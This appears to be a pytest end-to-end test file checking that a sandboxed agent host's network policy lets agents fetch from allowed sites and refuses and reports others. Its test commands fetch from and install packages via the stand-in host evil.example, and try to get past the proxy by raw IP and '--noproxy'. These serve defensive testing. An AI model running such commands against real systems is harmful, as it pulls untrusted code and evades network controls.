"""A day's work on the network under the default policy, by the real CLIs and tools in real sandboxes.

The internet is on loopback, under the names that the real one has. npm and Chromium are tried where this machine has
them: bubblewrap shows its programs.
"""

import json
import shutil
from collections.abc import AsyncGenerator, Generator
from contextlib import asynccontextmanager, contextmanager
from pathlib import Path
from typing import Any

import anyio
import pip
import pytest
from typer.testing import CliRunner

from nanoclaw.cli import app
from nanoclaw.cli.reading import database
from nanoclaw.client import Client
from nanoclaw.config import load_settings
from nanoclaw.host import Host
from nanoclaw.store import network
from nanoclaw.testing.models import Conversation, Script, Step, say, shell, steps
from nanoclaw.testing.world import World, make_world
from tests.e2e.conftest import ENGINES
from tests.e2e.internet import Internet, internet

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

_KEY = "sk-test-0123456789"
_CA = "/workspace/group/ca.pem"
_PIP = (
    f"PYTHONPATH=/workspace/group/tools REQUESTS_CA_BUNDLE={_CA}"  # which goes before --cert, where an image has it
    " python3 -m pip --disable-pip-version-check --no-cache-dir"
)
_WORK = (
    f"GIT_SSL_CAINFO={_CA} git clone -q https://github.com/acme/hello.git /tmp/hello && cat /tmp/hello/README",
    f"{_PIP} install -q --target /tmp/lib hello-nanoclaw"
    " && PYTHONPATH=/tmp/lib python3 -c 'import hello_nanoclaw as h; print(h.TEXT)'",
    f"curl -sS --cacert {_CA} https://en.wikipedia.org/wiki/Hello",
)
_NPM = shutil.which("npm")
_CHROMIUM = Path("/usr/lib/chromium/chromium")
_REFUSED = "is not on this group's list; the owner can allow it: nanoclaw network allow family"
_SETTINGS = "[network]\ntell_main = true\n"


@pytest.fixture
def net(tmp_path: Path) -> Generator[Internet]:
    with internet(tmp_path) as opened:
        yield opened


@contextmanager
def a_world(
    net: Internet,
    script: Script,
    *,
    engine: str = "bubblewrap",
    provider: str = "codex",
    sandbox: str = "",
    **group: Any,  # noqa: ANN401
) -> Generator[World]:
    """An installation whose group `family` has the authority of that internet, and a pip, in its files."""
    with make_world(script, script, engine=engine, settings=_SETTINGS, sandbox=sandbox) as world:
        world.secrets(OPENAI_API_KEY=_KEY, ANTHROPIC_API_KEY=_KEY)
        world.register("family", provider=provider, requiresTrigger=False, **group)
        files = world.home.groups / "family"
        files.mkdir(parents=True, exist_ok=True)
        (files / "ca.pem").write_bytes(net.authority)
        compiled = shutil.ignore_patterns("__pycache__")
        shutil.copytree(Path(pip.__file__).parent, files / "tools" / "pip", ignore=compiled)
        yield world


@asynccontextmanager
async def hosting(world: World, net: Internet) -> AsyncGenerator[Client]:
    """A host of that world, on that internet; at the end, all that it noted is written."""
    host = Host(world.home, load_settings(world.home), network=net)
    async with anyio.create_task_group() as tasks:
        await tasks.start(host.run)
        async with Client(world.home) as client:
            yield client
        host.stop()


def running(*commands: str) -> Script:
    """An agent that runs these and says what they put out."""
    return steps(*map(shell, commands), say(lambda conversation: "\n".join(conversation.tool_outputs)))


async def answer(world: World, net: Internet) -> str:
    """What the agent of `family` says."""
    async with hosting(world, net) as client:
        (reply,) = await world.ask(client, "family", "go on")
    return reply["text"]


def nanoclaw(world: World, *arguments: str) -> str:
    """A command of the owner's: what it prints."""
    done = CliRunner().invoke(app, ["--home", str(world.home.root), "network", *arguments], catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return done.stdout


def decided(world: World) -> set[tuple[str, int, str]]:
    """Host, port and verdict of everything that was asked for besides the provider."""
    with database(world.home) as db:
        return {(each.host, each.port, each.verdict) for each in network.recent(db, 100) if each.reason != "provider"}


@pytest.mark.parametrize(
    ("engine", "provider", "sandbox"),
    [
        pytest.param(engine, provider, sandbox, id=f"{title}-{provider}")
        for title, engine, sandbox in (
            *((engine, engine, "") for engine in ENGINES),
            ("podman over stdio", "podman", 'way_out = "stdio"'),
        )
        for provider in ("codex", "claude")
    ],
)
async def test_a_days_work_goes_well_under_the_default_policy_and_all_else_is_refused_and_told(
    net: Internet, engine: str, provider: str, sandbox: str
) -> None:
    refused = (
        "curl -sS http://evil.example/",
        "curl -sS https://93.184.216.34/; curl -sS --noproxy '*' https://pypi.org/",
        f"{_PIP} --retries 1 download --index-url https://evil.example/ x",
    )
    work = running(*_WORK, *refused)
    with a_world(net, work, engine=engine, provider=provider, sandbox=sandbox) as world:
        async with hosting(world, net) as client:
            (reply,) = await world.ask(client, "family", "do it")
            counts = (await client.get("/v1/status"))["network"]["family"]
        asked = decided(world)
        with database(world.home) as db:
            told = [row["text"] for row in db.execute("SELECT text FROM outbox WHERE chat = 'local:main'")]
    for expected in ("hello from the repository", "hello from the wheel", "A greeting of old."):
        assert expected in reply["text"]
    assert reply["text"].count(f"evil.example {_REFUSED} evil.example") >= 2  # curl's and pip's
    assert "CONNECT tunnel failed, response 403" in reply["text"]
    assert "Could not resolve host: pypi.org" in reply["text"]  # there is no network but the proxy
    assert not any("evil" in place for place in net.reached)
    assert asked == {
        *((host, 443, "allowed") for host in ("github.com", "pypi.org", "files.pythonhosted.org", "en.wikipedia.org")),
        *(("evil.example", port, "refused") for port in (80, 443)),
        ("93.184.216.34", 443, "refused"),
    }
    assert counts["requests"] - counts["refused"] >= 4
    assert counts["input_tokens"] >= counts["provider_requests"] >= 7
    assert "family was refused evil.example. To allow it: `nanoclaw network allow family evil.example`" in told


async def test_what_the_owner_allows_and_denies_counts_for_the_next_request_of_a_running_agent(net: Internet) -> None:
    fetch = f"curl -sS --cacert {_CA} https://example.com/"
    said: list[str] = []

    def script(conversation: Conversation) -> Step:
        """Between the agent's commands, its owner gives some."""
        match len(conversation.tool_outputs):
            case 0:
                return shell(fetch)
            case 1:
                said.append(nanoclaw(world, "allow", "family", "Example.com"))
                return shell(fetch)
            case 2:
                said.append(nanoclaw(world, "deny", "family", "example.com"))
                return shell(fetch)
            case 3:
                nanoclaw(world, "set", "family", "none")
                return shell("curl -s http://en.wikipedia.org/")
            case _:
                return say("\n###\n".join(conversation.tool_outputs))

    with a_world(net, script) as world:
        outputs = (await answer(world, net)).split("###")
        shown = json.loads(nanoclaw(world, "show", "family", "--json"))
        rows = json.loads(nanoclaw(world, "log", "family", "--denied", "--json"))
    assert ["An example." in output for output in outputs] == [False, True, False, False]
    assert "nanoclaw network set family allowlist" in outputs[3]
    ends = [text.splitlines()[-1] for text in said]  # the host's log, from the other thread, may stand before it
    assert ends == ["family may reach example.com", "family may not reach example.com"]
    assert (shown["policy"], shown["allow"], shown["deny"]) == ("none", [], ["example.com"])
    assert [(row["host"], row["reason"]) for row in rows[::-1]] == [
        ("example.com", "policy"),
        ("example.com", "policy"),
        ("en.wikipedia.org", "policy"),
    ]


@pytest.mark.parametrize(("policy", "opened"), [(None, True), ("allowlist", False)])
async def test_level_full_opens_every_public_host_and_the_groups_own_policy_narrows_it(
    net: Internet, policy: str | None, opened: bool
) -> None:
    commands = (f"curl -sS --cacert {_CA} https://evil.example/", "curl -sS https://evil.example:8443/")
    full = {"codex": {"approvalPolicy": "full"}}
    own = {"policy": policy} if policy else {}
    with a_world(net, running(*commands), providerConfig=full, network=own) as world:
        said = await answer(world, net)
    assert ("there is nothing here" in said) is opened
    assert said.count("response 403") == (1 if opened else 2)


@pytest.mark.parametrize("npm", [_NPM] if _NPM else [])
async def test_npm_installs_and_shows_why_it_may_not(net: Internet, npm: str) -> None:
    go = f"cd /tmp && npm_config_cafile={_CA} npm install --no-audit --no-fund --loglevel=error"
    print_it = "node -p 'require(\"hello-nanoclaw\")'"
    with a_world(
        net, running(f"{go} hello-nanoclaw && {print_it}", f"{go} --registry https://evil.example x")
    ) as world:
        said = await answer(world, net)
    assert "hello from npm" in said
    assert f"evil.example {_REFUSED}" in said


@pytest.mark.parametrize("provider", ["codex", "claude"])
@pytest.mark.parametrize("chromium", [_CHROMIUM] if _CHROMIUM.exists() else [])
async def test_chromium_opens_a_page_and_shows_why_it_may_not(net: Internet, chromium: Path, provider: str) -> None:
    options = "--headless --no-sandbox --disable-dev-shm-usage --ignore-certificate-errors --user-data-dir=/tmp/profile"
    go = f"timeout 25 {chromium} {options} --dump-dom 2>/dev/null"
    commands = (f"{go} https://en.wikipedia.org/wiki/Hello", f"{go} http://evil.example/")
    with a_world(net, running(*commands), provider=provider) as world:
        said = await answer(world, net)
    assert "A greeting of old." in said
    assert f"evil.example {_REFUSED}" in said
